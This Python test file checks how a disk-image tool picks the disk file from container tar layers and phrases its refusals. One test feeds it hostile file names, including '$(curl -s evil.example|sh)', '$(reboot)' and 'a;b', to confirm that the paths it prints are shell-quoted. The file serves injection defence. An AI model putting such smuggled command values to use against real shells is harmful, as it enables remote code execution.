"""Which file is the disk, on tar metadata alone (pure)."""

from __future__ import annotations

import zlib
from collections.abc import Callable

import pytest

from cdisk.core.disk import anywhere
from cdisk.core.disk.anywhere import Sniffed
from cdisk.core.disk.candidates import FOUND_SHOWN, DiskCandidate, every_disk, find_disk, list_candidates
from cdisk.core.errors import DiskNotFoundError, UnsafeImageError
from cdisk.core.tree.merged import DIR, FILE, OTHER, SYMLINK, LayerMember, MergedTree


def f(path: str, sparse: bool = False, size: int = 10) -> LayerMember:
    # Where a layer tar would hold its data: one place per path (the same place is one file, hard links).
    return LayerMember(path, FILE, 0, offset=512 * (2 + zlib.crc32(path.encode())), size=size, sparse=sparse)


def test_the_one_file_under_disk() -> None:
    tree = MergedTree([[f("disk/.x"), LayerMember("disk/sub", DIR), f("disk/sub/y"), f("disk/vm.qcow2")]])
    assert find_disk(tree) == ("/disk/vm.qcow2", f("disk/vm.qcow2"))


def test_candidates_list_refusals() -> None:
    tree = MergedTree(
        [
            [
                f("disk/a"),
                LayerMember("disk/b", SYMLINK, linkname="/etc/passwd"),
                LayerMember("disk/c", SYMLINK, linkname="sub"),
                LayerMember("disk/sub", DIR),
                LayerMember("disk/dev", OTHER),
            ]
        ]
    )
    candidates = list_candidates(tree)
    assert [c.path for c in candidates] == ["/disk/a", "/disk/b", "/disk/dev"]
    assert candidates[0] == DiskCandidate("/disk/a", f("disk/a"))
    assert "points to /etc/passwd" in candidates[1].refusal
    assert "not a regular file" in candidates[2].refusal


def test_several_and_none() -> None:
    with pytest.raises(DiskNotFoundError, match="several disk files in the image: /disk/a, /disk/b"):
        find_disk(MergedTree([[f("disk/a"), f("disk/b")]]))
    with pytest.raises(DiskNotFoundError, match=r"no disk file directly under /disk/ \(found: nothing\)"):
        find_disk(MergedTree([[f("other/a")]]))


def test_explicit_path_and_sparse_refusal() -> None:
    tree = MergedTree([[f("disk/a"), f("disk/b"), f("images/s", sparse=True)]])
    assert find_disk(tree, "/disk/b") == ("/disk/b", f("disk/b"))
    with pytest.raises(UnsafeImageError, match="sparse tar member"):
        find_disk(tree, "images/s")
    with pytest.raises(DiskNotFoundError, match="is not a regular file"):
        find_disk(tree, "/disk")


def test_candidates_are_named_through_disk_even_when_it_links_to_the_root() -> None:
    tree = MergedTree([[LayerMember("disk", SYMLINK, linkname="/"), f("vm.qcow2")]])
    # /disk/disk is /disk again, that is the root: a directory, so not a candidate.
    assert list_candidates(tree) == [DiskCandidate("/disk/vm.qcow2", f("vm.qcow2"))]
    assert find_disk(tree) == ("/disk/vm.qcow2", f("vm.qcow2"))


def test_no_disk_says_what_the_resolved_disk_dir_holds() -> None:
    linked = MergedTree([[LayerMember("disk", SYMLINK, linkname="/images"), LayerMember("images/sub", DIR)]])
    with pytest.raises(DiskNotFoundError, match=r"under /disk/ \(found: /disk/sub\); pass --path"):
        find_disk(linked)
    for target in ("/etc", "../..", "/disk"):
        out = MergedTree([[LayerMember("disk", SYMLINK, linkname=target)]])
        with pytest.raises(DiskNotFoundError, match=rf"under /disk/ \(/disk is a symlink to {target}, which leads to "
                                                    r"no directory inside the image\); pass --path"):
            find_disk(out)
    with pytest.raises(DiskNotFoundError, match=r"under /disk/ \(/disk is a file, not a directory\)"):
        find_disk(MergedTree([[f("disk")]]))


def _told(formats: dict[str, Sniffed]) -> Callable[[str, LayerMember], Sniffed | None]:
    return lambda path, member: formats.get(path)


def _refusal(tree: MergedTree, formats: dict[str, Sniffed], every: bool = False) -> str:
    with pytest.raises(DiskNotFoundError) as refused:
        every_disk(tree, _told(formats)) if every else find_disk(tree, None, _told(formats))
    return refused.value.message


def test_a_disk_elsewhere_is_named_never_taken() -> None:
    podvm = LayerMember("image/podvm.qcow2", FILE, 1, 1024, 6 << 30)
    tree = MergedTree([[f("bin/busybox", size=2 << 20)], [podvm]])
    expected = ("no disk file directly under /disk/ (found: nothing); the image holds /image/podvm.qcow2 (qcow2, "
                "6.0 GiB): pass --path /image/podvm.qcow2")
    assert _refusal(tree, {"/image/podvm.qcow2": Sniffed("qcow2")}) == expected
    # serve --all says the same; and the path to pass is quoted for a shell when it needs to be.
    assert _refusal(tree, {"/image/podvm.qcow2": Sniffed("qcow2")}, every=True) == expected
    spaced = MergedTree([[LayerMember("my disks/vm.img", FILE, 0, 512, 2 << 20)]])
    assert _refusal(spaced, {"/my disks/vm.img": Sniffed("raw", "GPT")}).endswith(
        "the image holds '/my disks/vm.img' (raw GPT, 2.0 MiB): pass --path '/my disks/vm.img'")


def test_several_disks_elsewhere_are_named_and_bounded() -> None:
    names = [f"d{n:02}.img" for n in range(FOUND_SHOWN + 2)]
    tree = MergedTree([[f(name, size=1 << 20) for name in names]])
    message = _refusal(tree, {f"/{name}": Sniffed("raw", "MBR") for name in names})
    assert message.startswith("no disk file directly under /disk/ (found: nothing); several disk-like files: "
                              "/d00.img (raw MBR, 1.0 MiB), /d01.img (raw MBR, 1.0 MiB), ")
    assert message.endswith("/d09.img (raw MBR, 1.0 MiB), … 2 more: pass --path with one of them")


def test_every_path_named_pastes_as_one_shell_word() -> None:
    # A find's name can neither run code when pasted nor fake more entries of the list; one that is not printable
    # pastes as the very name ($'…'), not as the backslashes a terminal escape would show.
    evil, fake, newline = "img/$(curl -s evil.example|sh)/x.qcow2", "x.qcow2 (qcow2, 1.0 MiB), /y", "a b\n.qcow2"
    tree = MergedTree([[f(evil, size=2 << 20), f(fake, size=2 << 20)]])
    assert _refusal(tree, {f"/{evil}": Sniffed("qcow2"), f"/{fake}": Sniffed("qcow2")}) == (
        "no disk file directly under /disk/ (found: nothing); several disk-like files: "
        "'/x.qcow2 (qcow2, 1.0 MiB), /y' (qcow2, 2.0 MiB), '/img/$(curl -s evil.example|sh)/x.qcow2' (qcow2, "
        "2.0 MiB): pass --path with one of them")
    lone = MergedTree([[f(newline, size=2 << 20)]])
    assert _refusal(lone, {f"/{newline}": Sniffed("qcow2")}) == (
        "no disk file directly under /disk/ (found: nothing); the image holds $'/a b\\x0a.qcow2' (qcow2, 2.0 MiB): "
        "pass --path $'/a b\\x0a.qcow2'")
    # What /disk holds, and several disks under it, alike.
    assert "found: '/disk/$(reboot)'" in _refusal(MergedTree([[LayerMember("disk/$(reboot)", DIR)]]), {})
    with pytest.raises(DiskNotFoundError, match=r"several disk files in the image: '/disk/a;b', /disk/c;"):
        find_disk(MergedTree([[f("disk/a;b"), f("disk/c")]]))


def test_qed_and_luks_are_named_as_not_read_never_as_a_path_to_pass() -> None:
    qed, luks, qcow2 = (f(name, size=2 << 20) for name in ("vm.qed", "vm.luks", "vm.qcow2"))
    told = {"/vm.qed": Sniffed("qed"), "/vm.luks": Sniffed("luks"), "/vm.qcow2": Sniffed("qcow2")}
    assert _refusal(MergedTree([[qed]]), told) == (
        "no disk file directly under /disk/ (found: nothing); the image holds only disk-like files cdisk does not "
        "read: /vm.qed (qed, 2.0 MiB: cdisk does not read qed); rebuild the image with a raw or qcow2 disk under "
        "/disk/")
    assert _refusal(MergedTree([[qed, luks]]), told).endswith(
        "only disk-like files cdisk does not read: /vm.luks (luks, 2.0 MiB: cdisk does not read an encrypted disk), "
        "/vm.qed (qed, 2.0 MiB: cdisk does not read qed); rebuild the image with a raw or qcow2 disk under /disk/")
    # Beside one it reads, that one is the --path to pass; beside two, "one of them cdisk reads".
    assert _refusal(MergedTree([[qed, qcow2]]), told) == (
        "no disk file directly under /disk/ (found: nothing); several disk-like files: /vm.qcow2 (qcow2, 2.0 MiB), "
        "/vm.qed (qed, 2.0 MiB: cdisk does not read qed): pass --path /vm.qcow2")
    raw = f("vm.raw", size=2 << 20)
    assert _refusal(MergedTree([[qed, qcow2, raw]]), {**told, "/vm.raw": Sniffed("raw", "GPT")}).endswith(
        ": pass --path with one of them cdisk reads")


def test_nothing_disk_like_says_as_before_and_a_cut_search_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    tree = MergedTree([[f("a.bin", size=2 << 20), f("b.bin", size=2 << 20)]])
    assert _refusal(tree, {}) == ("no disk file directly under /disk/ (found: nothing); pass --path with the disk "
                                  "file's path in the image")
    monkeypatch.setattr(anywhere, "MAX_HEADERS", 1)
    assert _refusal(tree, {}) == ("no disk file directly under /disk/ (found: nothing); no disk-like file elsewhere "
                                  "either (the search stops after 1 files of 1.0 MiB or more); pass --path with the "
                                  "disk file's path in the image")


def test_a_disk_under_disk_is_taken_whatever_lies_elsewhere() -> None:
    tree = MergedTree([[f("disk/vm.qcow2"), f("image/other.qcow2", size=2 << 20)]])
    assert find_disk(tree, None, _told({"/image/other.qcow2": Sniffed("qcow2")})) == ("/disk/vm.qcow2",
                                                                                      f("disk/vm.qcow2"))
